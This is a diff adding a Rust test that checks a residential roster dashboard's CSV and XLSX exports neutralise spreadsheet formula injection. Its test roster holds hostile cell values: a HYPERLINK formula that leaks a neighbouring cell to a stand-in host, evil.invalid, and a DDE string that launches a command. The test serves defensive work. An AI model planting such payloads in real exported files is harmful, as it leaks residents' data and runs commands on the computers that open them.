@@ -170,3 +170,73 @@ async fn a_rounds_results_list_every_door_and_knock() {
     let overview = session.get_json(&format!("/dashboard/api/compounds/{compound}/overview")).await;
     assert_eq!(overview["rounds"][0]["delivered"], 1);
 }
+
+/// A roster whose cells would run as formulas in a spreadsheet, next to a phone number with a
+/// country code and a basement floor, which must come out as they are.
+const HOSTILE_ROSTER: &str = "\u{feff}小区,楼号,单元,楼层,房号,户主,联系电话,户内人数,60岁以上人数,6岁以下儿童,重点人群,管控状态,有无电梯,备注
+香樟苑,1号楼,1单元,-1,B01,@SUM(A1:A9),+86 139 1234 5678,2,1,0,独居老人,正常,无,\"=HYPERLINK(\"\"http://evil.invalid/?leak=\"\"&F2,\"\"click\"\")\"
+香樟苑,1号楼,1单元,2,201,任强,19911257346,2,0,0,透析,正常,无,-2+3+cmd|' /C calc'!A0
+";
+
+/// The cells of the row of flat `flat` in an exported roster CSV, as a spreadsheet would split it.
+fn csv_row(csv: &[u8], flat: &str) -> Vec<String> {
+    let text = String::from_utf8(csv.to_vec()).unwrap();
+    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
+    reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .find(|r| r.get(4).map(String::as_str) == Some(flat))
+        .unwrap_or_else(|| panic!("no flat {flat} in {text}"))
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_exports_quote_formulas_and_keep_phone_numbers() {
+    let dash = Dash::start().await;
+    let compound = dash.relay.create_compound("公式苑").await;
+    dash.relay.import_roster(compound, HOSTILE_ROSTER).await;
+    let coordinator = dash.relay.phone(compound, Role::Coordinator, "王芳").await;
+    let session = dash.login(&coordinator.token).await;
+    let base = format!("/dashboard/api/compounds/{compound}/export");
+
+    let api = dash
+        .http
+        .get(format!("{}/v1/compounds/{compound}/roster.csv", dash.url()))
+        .bearer_auth(&dash.relay.admin_token)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(api.status(), StatusCode::OK);
+    let api = api.bytes().await.unwrap().to_vec();
+    let dashboard = download(&session, &format!("{base}/roster.csv"), "text/csv").await;
+    let needs = download(&session, &format!("{base}/special-needs.csv"), "text/csv").await;
+    for (which, csv) in [("API", &api), ("dashboard", &dashboard), ("special needs", &needs)] {
+        let basement = csv_row(csv, "B01");
+        assert_eq!(basement[3], "-1", "{which}: a negative floor stays a number");
+        assert_eq!(basement[5], "'@SUM(A1:A9)", "{which}");
+        assert_eq!(basement[6], "+86 139 1234 5678", "{which}: a phone number stays as typed");
+        assert_eq!(basement[13], "'=HYPERLINK(\"http://evil.invalid/?leak=\"&F2,\"click\")", "{which}");
+        let other = csv_row(csv, "201");
+        assert_eq!(other[13], "'-2+3+cmd|' /C calc'!A0", "{which}");
+        let text = String::from_utf8_lossy(csv);
+        for line in text.lines() {
+            for cell in line.split(',') {
+                let cell = cell.trim_start_matches('"');
+                assert!(!cell.starts_with('=') && !cell.starts_with('@'), "{which}: raw formula in {line}");
+            }
+        }
+    }
+    assert_eq!(api, dashboard, "the dashboard's roster CSV is the API's");
+
+    // The workbook holds typed text, which no spreadsheet runs: the cells are as they were entered.
+    let xlsx = download(&session, &format!("{base}/roster.xlsx"), XLSX).await;
+    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(xlsx)).unwrap();
+    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
+    let row = (1..sheet.height() as u32)
+        .find(|r| sheet.get((*r as usize, 4)) == Some(&Data::String("B01".into())))
+        .unwrap() as usize;
+    assert_eq!(sheet.get((row, 5)), Some(&Data::String("@SUM(A1:A9)".into())));
+    assert_eq!(
+        sheet.get((row, 13)),
+        Some(&Data::String("=HYPERLINK(\"http://evil.invalid/?leak=\"&F2,\"click\")".into()))
+    );
+}
